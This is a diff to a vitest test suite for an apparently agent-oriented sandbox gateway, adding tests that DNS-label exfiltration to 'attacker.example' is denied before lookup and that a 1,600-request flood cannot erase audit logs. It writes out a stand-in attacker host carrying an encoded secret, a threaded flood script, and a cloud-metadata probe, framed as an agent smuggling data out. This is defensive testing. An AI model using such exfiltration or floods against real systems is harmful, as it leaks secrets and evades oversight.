@@ -1,6 +1,7 @@
 import { describe, it, expect, beforeAll, afterAll } from 'vitest'
-import { readFileSync, writeFileSync } from 'node:fs'
-import { podman } from '../helpers/cli.js'
+import { readFileSync, writeFileSync, readdirSync, statSync } from 'node:fs'
+import { join } from 'node:path'
+import { podman, TEST_HOME } from '../helpers/cli.js'
 import {
   attackImage, createSandbox, deleteSandboxes, sh, bash, python, node, curlProxy, rawProxy, statuses, expectLogged, logs,
   gatewayHosts, gatewayLoopbackService, gatewayName, GATEWAY_LOOPBACK_PORT, GATEWAY_LOOPBACK_BODY,
@@ -431,9 +432,9 @@ describe('#12–17 rebinding, metadata, loopback, LAN', () => {
   })
 
   it('#15 metadata.google.internal (listed in the policy; its name is not even resolvable here) → refused', async ({ task }) => {
-    // No resolver answers in the test namespace: slirp4netns (Podman 4) fails the lookup at once;
-    // pasta (Podman 5) drops the query and the gateway's resolver gives up after its timeouts
-    // (~40 s measured). Wait for the gateway's answer either way.
+    // No resolver answers in the test namespace (slirp4netns refuses, pasta drops the query), and
+    // the gateway's c-ares resolver (src/rules/dns.ts) sees no ICMP error: the lookup fails at its
+    // 5 s deadline (getaddrinfo under pasta took ~40 s). Wait for the gateway's answer either way.
     const raw = await rawProxy(net, get('http://metadata.google.internal/computeMetadata/v1/', 'metadata.google.internal'), 60)
     task.meta.observed = raw.split('\r\n')[0]
     refused(raw, [403, 502])
@@ -731,6 +732,107 @@ print(' '.join(out))
     const r = await probeInSandbox(net, ['netlink_netfilter'])
     task.meta.observed = r.netlink_netfilter!.detail
     expect(r.netlink_netfilter!.blocked).toBe(true)
+  })
+})
+
+// ───────────────────────── issue 9: DNS leaks and an audit trail a flood cannot erase ─────────────────────────
+
+const FLOOD_PY = String.raw`
+import socket, sys, threading
+host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
+req = ('GET http://%s:%d/t/flood HTTP/1.1\r\nHost: %s:%d\r\nConnection: close\r\n\r\n' % (host, port, host, port)).encode()
+codes = {}
+lock = threading.Lock()
+def worker(k):
+    for _ in range(k):
+        try:
+            s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
+            s.sendall(req)
+            data = b''
+            while True:
+                c = s.recv(4096)
+                if not c:
+                    break
+                data += c
+            s.close()
+            code = data[9:12].decode('latin-1')
+        except Exception as e:
+            code = 'err'
+        with lock:
+            codes[code] = codes.get(code, 0) + 1
+ts = [threading.Thread(target=worker, args=(n // 8,)) for _ in range(8)]
+for t in ts: t.start()
+for t in ts: t.join()
+print(' '.join('%s=%d' % kv for kv in sorted(codes.items())))
+`
+
+describe('issue 9: names a policy does not allow never reach DNS; a flood of denials cannot erase the audit', () => {
+  let ipOnly = ''
+  let flood = ''
+  // What an agent smuggles out as a DNS label (hosts are canonical lower case in the log).
+  const secretName = 'c2vjcmv0lxrva2vu.attacker.example'
+  beforeAll(async () => {
+    ipOnly = await createSandbox('iponly', { image, policy: policyFile({ lan: [{ ports: [up.port], allowed_ips: [H + '/32'] }] }) })
+    flood = await createSandbox('flood', { image })
+    // Play the attacker's DNS: were the gateway to resolve these names, it would find the upstream
+    // (inside allowed_ips) and forward the request — the upstream would record it.
+    await gatewayHosts([[H, secretName], [H, `tunnel.${secretName}`]])
+  })
+  afterAll(async () => {
+    await deleteSandboxes([ipOnly, flood])
+  })
+
+  it('DNS-1 hostless allowed_ips endpoint: <secret>.attacker.example is denied before any lookup, and logged', async ({ task }) => {
+    // control: an IP literal inside allowed_ips passes
+    const ok = await curlProxy(ipOnly, up.url('/t/iponly-literal'))
+    expect(ok.status).toBe(200)
+    const r = await curlProxy(ipOnly, `http://${secretName}:${up.port}/t/dns-leak`)
+    const t = await curlProxy(ipOnly, `http://tunnel.${secretName}:${up.port}/t/dns-leak-tunnel`, { tunnel: true })
+    task.meta.observed = `plain HTTP ${r.status}, CONNECT ${t.connect}; upstream saw ${up.seen('/t/dns-leak').length} request(s)`
+    task.meta.control = `IP literal in allowed_ips: ${ok.status}`
+    expect(r.status).toBe(403)
+    expect(t.connect).toBe(403)
+    expect(up.seen('/t/dns-leak')).toHaveLength(0)
+    // Logged as a policy denial (no endpoint names it), never as a resolution result: the decision
+    // came before any lookup (a resolved name would read "cannot resolve" or reach the upstream).
+    await expectLogged(ipOnly, /HTTP:GET .*DENIED/, new RegExp(esc(secretName)), /not allowed by any policy/)
+    await expectLogged(ipOnly, /NET:OPEN .*DENIED/, new RegExp(esc(`tunnel.${secretName}`)), /not allowed by any policy/)
+    const text = await logs(ipOnly)
+    expect(text.split('\n').filter(l => l.includes(secretName) && /resolv/i.test(l))).toEqual([])
+  })
+
+  it('AUDIT-1 1,600 denied requests in a burst: the earlier probe stays on record, the flood is aggregated, the audit dir stays bounded', async ({ task }) => {
+    const dir = join(TEST_HOME, 'sandboxes', flood, 'audit')
+    const probe = await curlProxy(flood, `http://probe-7f3a.attacker.example:${up.port}/t/probe`)
+    expect(probe.status).toBe(403)
+    await expectLogged(flood, /DENIED/, /probe-7f3a\.attacker\.example/)
+    const started = Date.now()
+    const out = await python(flood, FLOOD_PY, ['flood.attacker.example', String(up.port), '1600'])
+    const secs = (Date.now() - started) / 1000
+    expect(out.stdout.trim()).toBe('403=1600')
+    // Every denial is accounted for: lines written one by one plus the counts of the summaries.
+    const tally = () => {
+      const text = readFileSync(join(dir, 'openshell.log'), 'utf8')
+      const single = text.split('\n').filter(l => /HTTP:GET .*DENIED GET http:\/\/flood\.attacker\.example/.test(l)).length
+      const aggr = [...text.matchAll(/NET:AGGREGATE \[MED\] DENIED x(\d+) -> flood\.attacker\.example:/g)].map(m => Number(m[1]))
+      return { single, aggr, total: single + aggr.reduce((a, b) => a + b, 0) }
+    }
+    let t = tally()
+    for (let i = 0; i < 20 && t.total < 1600; i++) {
+      await sleep(250)
+      t = tally()
+    }
+    const files = readdirSync(dir)
+    const size = files.reduce((n, f) => n + statSync(join(dir, f)).size, 0)
+    task.meta.observed = `1600 denials in ${secs.toFixed(1)} s: ${t.single} lines + ${t.aggr.length} summaries (${t.aggr.join('+')}); audit dir ${files.join(',')} = ${size} bytes`
+    expect(t.total).toBe(1600)
+    expect(t.aggr.length).toBeGreaterThan(0)
+    expect(t.single).toBeLessThanOrEqual(5 * (Math.ceil(secs) + 2))
+    // The probe's record is retained (never rotated while the sandbox exists).
+    expect(readFileSync(join(dir, 'retained.log'), 'utf8')).toMatch(/DENIED GET http:\/\/probe-7f3a\.attacker\.example/)
+    // Bounded: nothing rotated, far below the 34 MiB ceiling of the defaults.
+    expect(files.some(f => /\.\d+$/.test(f))).toBe(false)
+    expect(size).toBeLessThan(1024 * 1024)
   })
 })
 
